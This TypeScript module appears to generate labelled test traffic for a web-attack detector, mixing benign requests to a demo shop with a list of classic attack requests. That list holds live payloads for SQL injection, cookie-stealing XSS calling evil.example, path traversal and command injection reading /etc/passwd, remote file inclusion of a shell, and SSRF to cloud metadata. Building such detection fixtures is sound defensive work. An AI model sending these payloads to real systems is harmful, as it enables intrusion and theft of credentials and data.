import { browserHeaders, scriptHeaders } from './clients.ts';

/** A request with what it is: the part of a corpus row that a simulation needs. */
export interface LabelledShot {
  readonly label: 'attack' | 'benign';
  readonly category: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: string | undefined;
}

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_BODY = { 'content-type': 'application/json' };

/** Nine visits to the demo shop for each attack: what a small site sees on a bad day. */
const ATTACK_SHARE = 0.1;

const VISITS: readonly Omit<LabelledShot, 'label' | 'headers'>[] = [
  { category: 'page', method: 'GET', path: '/' },
  { category: 'page', method: 'GET', path: '/products/kettle' },
  { category: 'page', method: 'GET', path: '/products/blanket?ref=home' },
  { category: 'search', method: 'GET', path: '/search?q=reading%20lamp' },
  { category: 'search', method: 'GET', path: '/search?q=union%20jack%20blanket%20and%20select%20knives' },
  { category: 'api', method: 'GET', path: '/api/products' },
  {
    category: 'api',
    method: 'POST',
    path: '/api/orders',
    body: '{"items":[{"id":"lamp","n":1}],"note":"It\'s a gift"}',
  },
];

const ATTACKS: readonly Omit<LabelledShot, 'label' | 'headers'>[] = [
  { category: 'sqli', method: 'GET', path: "/search?q=1'%20UNION%20SELECT%20name,password%20FROM%20users--%20" },
  { category: 'sqli', method: 'GET', path: "/products/kettle?ref='%20OR%20'1'='1" },
  { category: 'sqli', method: 'POST', path: '/api/orders', body: '{"items":"1; DROP TABLE orders;--"}' },
  {
    category: 'xss',
    method: 'GET',
    path: '/search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E',
  },
  { category: 'xss', method: 'GET', path: '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E' },
  { category: 'traversal', method: 'GET', path: '/products/..%2f..%2f..%2f..%2fetc%2fpasswd' },
  { category: 'cmdi', method: 'GET', path: '/search?q=lamp%3Bcat%20/etc/passwd' },
  { category: 'rfi', method: 'GET', path: '/?page=http://evil.example/shell.txt%3F' },
  { category: 'ssrf', method: 'GET', path: '/api/products?image=http://169.254.169.254/latest/meta-data/' },
];

/** The built-in request number `index`: a visit to the demo shop, or one of the classic attacks, as `chance` (0 to 1) says. */
export function builtInShot(index: number, chance: number, origin: string): LabelledShot {
  const attack = chance < ATTACK_SHARE;
  const list = attack ? ATTACKS : VISITS;
  const base = list[index % list.length];
  if (base === undefined) throw new Error('the built-in mix is empty');
  const asScript = base.category === 'api' || base.path.startsWith('/api/');
  const type = base.body === undefined ? {} : base.body.startsWith('{') ? JSON_BODY : FORM;
  const headers = { ...(asScript ? scriptHeaders(index, origin) : browserHeaders(index)), ...type };
  return { ...base, label: attack ? 'attack' : 'benign', headers };
}
